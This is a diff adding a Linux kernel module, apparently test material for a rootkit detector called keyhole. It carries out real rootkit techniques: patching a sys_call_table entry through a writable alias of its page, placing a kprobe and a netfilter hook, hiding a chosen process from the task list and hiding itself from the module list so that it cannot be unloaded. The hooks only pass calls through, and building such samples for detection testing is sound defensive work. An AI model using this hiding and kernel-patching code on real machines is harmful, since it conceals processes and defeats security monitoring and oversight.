@@ -1,0 +1,351 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * khrootkit.c - a test-only "rootkit" for the keyhole test guest.
+ *
+ * keyhole's rootkit checks must be tested against real attacks, so this
+ * module does, in its init, what a rootkit does:
+ *
+ *  1. replaces one sys_call_table entry (sct_nr, default __NR_getdents64)
+ *     with a function of its own that calls the original one;
+ *  2. registers a kprobe (on kprobe_sym+kprobe_offset, default
+ *     __x64_sys_syncfs+0: its ftrace site, so the kprobe is ftrace-based);
+ *  3. registers a netfilter hook (IPv4, LOCAL_IN, priority 0);
+ *  4. hides the process hide_pid: unlinks it from the task list (it stays
+ *     in its pid namespace's IDR, so /proc/PID and the /proc listing still
+ *     have it, and in its parent's children);
+ *  5. hides itself: unlinks itself from the module list (/proc/modules),
+ *     while /sys/module/khrootkit and its parameters stay.
+ *
+ * Each step that fails undoes the earlier ones and fails the init; the
+ * hiding comes last, so a failure never leaves something hidden. There is
+ * no exit function: the module cannot be unloaded (nor found by
+ * delete_module once it is hidden).
+ *
+ * sys_call_table is not exported and neither is kallsyms_lookup_name, so
+ * the loader passes its address (from /proc/kallsyms) as sct; the module
+ * checks that the address really is sys_call_table before writing. The
+ * table is read-only: the entry is written through a temporary writable
+ * alias of its page (vmap). On this kernel syscalls are dispatched by
+ * x64_sys_call() and not through the table; the hook calls the original
+ * anyway, so the syscall behaves as before either way.
+ *
+ * tasklist_lock and module_mutex are not exported: both unlinks are done
+ * inside stop_machine(), so no other CPU is inside a tasklist_lock write
+ * section (which disables interrupts). After an RCU grace period (a
+ * reader that was on an unlinked entry may still follow its ->next until
+ * then) the entries are made to point at themselves, again under
+ * stop_machine(), so that the list_del_rcu() of a later exit of the
+ * hidden task is a harmless no-op instead of a double deletion.
+ *
+ * Read-only parameters give the tests their ground truth, in hex without
+ * 0x: hook_addr (the syscall hook), kprobe_addr (the probed address) and
+ * nf_hook_addr (the netfilter hook function); sct is shown in hex too.
+ */
+#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt
+
+#include <linux/kernel.h>
+#include <linux/kprobes.h>
+#include <linux/list.h>
+#include <linux/mm.h>
+#include <linux/module.h>
+#include <linux/moduleparam.h>
+#include <linux/netfilter.h>
+#include <linux/netfilter_ipv4.h>
+#include <linux/pid.h>
+#include <linux/rcupdate.h>
+#include <linux/sched.h>
+#include <linux/sched/signal.h>
+#include <linux/sched/task.h>
+#include <linux/stop_machine.h>
+#include <linux/string.h>
+#include <linux/sysfs.h>
+#include <linux/vmalloc.h>
+#include <net/net_namespace.h>
+#include <asm/unistd.h>
+
+/* --- parameters --------------------------------------------------------- */
+
+static int param_get_hex(char *buffer, const struct kernel_param *kp)
+{
+	return sysfs_emit(buffer, "%lx\n", *(unsigned long *)kp->arg);
+}
+
+static int param_set_ro(const char *val, const struct kernel_param *kp)
+{
+	pr_err("%s is read-only\n", kp->name);
+	return -EPERM;
+}
+
+/* set like a ulong (0x... accepted), shown in hex */
+static const struct kernel_param_ops kh_hex_ops = {
+	.set = param_set_ulong,
+	.get = param_get_hex,
+};
+
+/* output only: set by the module, shown in hex */
+static const struct kernel_param_ops kh_out_ops = {
+	.set = param_set_ro,
+	.get = param_get_hex,
+};
+
+static int hide_pid;
+module_param(hide_pid, int, 0444);
+MODULE_PARM_DESC(hide_pid, "pid of the process to unlink from the task list (required)");
+
+static unsigned long sct;
+module_param_cb(sct, &kh_hex_ops, &sct, 0444);
+MODULE_PARM_DESC(sct, "address of sys_call_table, from /proc/kallsyms (required)");
+
+static int sct_nr = __NR_getdents64;
+module_param(sct_nr, int, 0444);
+MODULE_PARM_DESC(sct_nr, "sys_call_table entry to replace (default __NR_getdents64)");
+
+static char *kprobe_sym = "__x64_sys_syncfs";
+module_param(kprobe_sym, charp, 0444);
+MODULE_PARM_DESC(kprobe_sym, "function to put a kprobe on");
+
+static unsigned int kprobe_offset;
+module_param(kprobe_offset, uint, 0444);
+MODULE_PARM_DESC(kprobe_offset, "offset in kprobe_sym (0: its ftrace site, so an ftrace-based kprobe; past it, an int3 one, then optimized to a jump)");
+
+static unsigned long hook_addr;
+module_param_cb(hook_addr, &kh_out_ops, &hook_addr, 0444);
+MODULE_PARM_DESC(hook_addr, "out: the function now in the sys_call_table entry");
+
+static unsigned long kprobe_addr;
+module_param_cb(kprobe_addr, &kh_out_ops, &kprobe_addr, 0444);
+MODULE_PARM_DESC(kprobe_addr, "out: the probed address");
+
+static unsigned long nf_hook_addr;
+module_param_cb(nf_hook_addr, &kh_out_ops, &nf_hook_addr, 0444);
+MODULE_PARM_DESC(nf_hook_addr, "out: the netfilter hook function");
+
+/* --- 1. sys_call_table entry ------------------------------------------- */
+
+static long (*kh_sct_orig)(const struct pt_regs *regs);
+
+static long kh_sct_hook(const struct pt_regs *regs)
+{
+	return kh_sct_orig(regs);
+}
+
+/* Write one table entry through a temporary writable alias of its page. */
+static int kh_sct_write(unsigned long *slot, unsigned long val)
+{
+	struct page *page = virt_to_page(slot);
+	void *alias;
+
+	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
+	if (!alias)
+		return -ENOMEM;
+	WRITE_ONCE(*(unsigned long *)(alias + offset_in_page(slot)), val);
+	vunmap(alias);
+	return 0;
+}
+
+static int kh_sct_install(void)
+{
+	unsigned long *slot, old;
+	char name[KSYM_SYMBOL_LEN];
+	int err;
+
+	if (!sct || !IS_ALIGNED(sct, sizeof(unsigned long))) {
+		pr_err("sct=%lx: pass the address of sys_call_table\n", sct);
+		return -EINVAL;
+	}
+	if (sct_nr < 0 || sct_nr >= NR_syscalls) {
+		pr_err("sct_nr=%d: not in 0..%d\n", sct_nr, NR_syscalls - 1);
+		return -EINVAL;
+	}
+	/* a symbol lookup only: nothing is read at a wrong address */
+	snprintf(name, sizeof(name), "%pS", (void *)sct);
+	if (strncmp(name, "sys_call_table+0x0/", 19)) {
+		pr_err("sct=%lx is %s, not sys_call_table\n", sct, name);
+		return -EINVAL;
+	}
+	slot = (unsigned long *)sct + sct_nr;
+	if (!pfn_valid(PHYS_PFN(__pa(slot)))) {
+		pr_err("sys_call_table[%d] at %lx: no struct page\n", sct_nr,
+		       (unsigned long)slot);
+		return -EINVAL;
+	}
+	old = READ_ONCE(*slot);
+	snprintf(name, sizeof(name), "%ps", (void *)old);
+	if (strncmp(name, "__x64_sys_", 10)) {
+		pr_err("sys_call_table[%d] = %lx (%s): not a syscall, already hooked?\n",
+		       sct_nr, old, name);
+		return -EINVAL;
+	}
+	kh_sct_orig = (void *)old;
+	err = kh_sct_write(slot, (unsigned long)kh_sct_hook);
+	if (err) {
+		pr_err("sys_call_table[%d]: vmap failed\n", sct_nr);
+		return err;
+	}
+	hook_addr = (unsigned long)kh_sct_hook;
+	pr_info("sys_call_table[%d] at %lx: %lx (%s) -> %lx\n", sct_nr,
+		(unsigned long)slot, old, name, hook_addr);
+	return 0;
+}
+
+static void kh_sct_restore(void)
+{
+	unsigned long *slot = (unsigned long *)sct + sct_nr;
+
+	if (kh_sct_write(slot, (unsigned long)kh_sct_orig))
+		pr_err("sys_call_table[%d]: cannot restore it (vmap failed)\n",
+		       sct_nr);
+	hook_addr = 0;
+}
+
+/* --- 2. kprobe ----------------------------------------------------------- */
+
+static int kh_kprobe_pre(struct kprobe *p, struct pt_regs *regs)
+{
+	return 0;
+}
+
+static struct kprobe kh_kprobe = {
+	.pre_handler = kh_kprobe_pre,
+};
+
+static int kh_kprobe_install(void)
+{
+	int err;
+
+	kh_kprobe.symbol_name = kprobe_sym;
+	kh_kprobe.offset = kprobe_offset;
+	err = register_kprobe(&kh_kprobe);
+	if (err) {
+		pr_err("register_kprobe(%s+%#x) failed: %d\n", kprobe_sym,
+		       kprobe_offset, err);
+		return err;
+	}
+	kprobe_addr = (unsigned long)kh_kprobe.addr;
+	pr_info("kprobe on %s+%#x at %lx%s, handler %lx\n", kprobe_sym,
+		kprobe_offset, kprobe_addr,
+		kprobe_ftrace(&kh_kprobe) ? " (ftrace-based)" : "",
+		(unsigned long)kh_kprobe_pre);
+	return 0;
+}
+
+/* --- 3. netfilter hook ------------------------------------------------- */
+
+static unsigned int kh_nf_hook(void *priv, struct sk_buff *skb,
+			       const struct nf_hook_state *state)
+{
+	return NF_ACCEPT;
+}
+
+static const struct nf_hook_ops kh_nf_ops = {
+	.hook = kh_nf_hook,
+	.pf = NFPROTO_IPV4,
+	.hooknum = NF_INET_LOCAL_IN,
+	.priority = 0,
+};
+
+static int kh_nf_install(void)
+{
+	int err = nf_register_net_hook(&init_net, &kh_nf_ops);
+
+	if (err) {
+		pr_err("nf_register_net_hook failed: %d\n", err);
+		return err;
+	}
+	nf_hook_addr = (unsigned long)kh_nf_hook;
+	pr_info("netfilter hook ipv4 LOCAL_IN at %lx\n", nf_hook_addr);
+	return 0;
+}
+
+/* --- 4. and 5. hiding -------------------------------------------------- */
+
+/* runs with every other CPU stopped, interrupts off */
+static int kh_unlink(void *data)
+{
+	struct task_struct *task = data;
+
+	/* unhashed or about to be: __unhash_process deletes it itself */
+	if (!pid_alive(task) || (task->flags & PF_EXITING))
+		return -ESRCH;
+	list_del_rcu(&task->tasks);
+	list_del_rcu(&THIS_MODULE->list);
+	return 0;
+}
+
+/* after a grace period: no reader is on the entries any more */
+static int kh_self_point(void *data)
+{
+	struct task_struct *task = data;
+
+	INIT_LIST_HEAD(&task->tasks);
+	INIT_LIST_HEAD(&THIS_MODULE->list);
+	return 0;
+}
+
+/* --- init ---------------------------------------------------------------- */
+
+static int __init khrootkit_init(void)
+{
+	struct task_struct *task = NULL;
+	int err;
+
+	if (hide_pid <= 0) {
+		pr_err("hide_pid=%d: pass the pid of the process to hide\n",
+		       hide_pid);
+		return -EINVAL;
+	}
+	rcu_read_lock();
+	task = pid_task(find_vpid(hide_pid), PIDTYPE_PID);
+	if (task)
+		get_task_struct(task);
+	rcu_read_unlock();
+	if (!task) {
+		pr_err("hide_pid=%d: no such process\n", hide_pid);
+		return -ESRCH;
+	}
+	if (!thread_group_leader(task) || (task->flags & PF_KTHREAD)) {
+		pr_err("hide_pid=%d: not a user process's main thread\n",
+		       hide_pid);
+		err = -EINVAL;
+		goto put_task;
+	}
+
+	err = kh_sct_install();
+	if (err)
+		goto put_task;
+	err = kh_kprobe_install();
+	if (err)
+		goto restore_sct;
+	err = kh_nf_install();
+	if (err)
+		goto unregister_kprobe;
+
+	err = stop_machine(kh_unlink, task, NULL);
+	if (err) {
+		pr_err("hide_pid=%d: cannot unlink it: %d\n", hide_pid, err);
+		goto unregister_nf;
+	}
+	synchronize_rcu();
+	stop_machine(kh_self_point, task, NULL);
+	/* the task reference is kept: the hidden task is never freed */
+	pr_info("hid pid %d (%s) from the task list and the module from the module list\n",
+		hide_pid, task->comm);
+	return 0;
+
+unregister_nf:
+	nf_unregister_net_hook(&init_net, &kh_nf_ops);
+	nf_hook_addr = 0;
+unregister_kprobe:
+	unregister_kprobe(&kh_kprobe);
+	kprobe_addr = 0;
+restore_sct:
+	kh_sct_restore();
+put_task:
+	put_task_struct(task);
+	return err;
+}
+module_init(khrootkit_init);
+
+MODULE_LICENSE("GPL");
+MODULE_DESCRIPTION("keyhole test guest: a rootkit to detect (test only)");
+MODULE_AUTHOR("keyhole");
